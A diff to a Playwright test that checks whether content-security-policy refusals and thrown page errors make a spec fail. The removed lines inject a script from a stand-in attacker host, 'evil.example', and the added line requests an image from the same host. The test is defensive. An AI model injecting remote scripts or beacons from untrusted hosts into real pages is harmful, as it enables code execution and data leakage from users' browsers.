@@ -21,9 +21,7 @@ test.describe('with a locked keychain', () => {
 test('what the policy refuses, and what a page throws, would fail a spec', async ({ page, problems }) => {
   await expect(page.getByRole('textbox', { name: 'API token' })).toBeVisible();
   await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.src = 'https://evil.example/x.js';
-    document.head.append(script);
+    new Image().src = 'https://evil.example/x.png';
     setTimeout(() => {
       throw new Error('planted');
     });
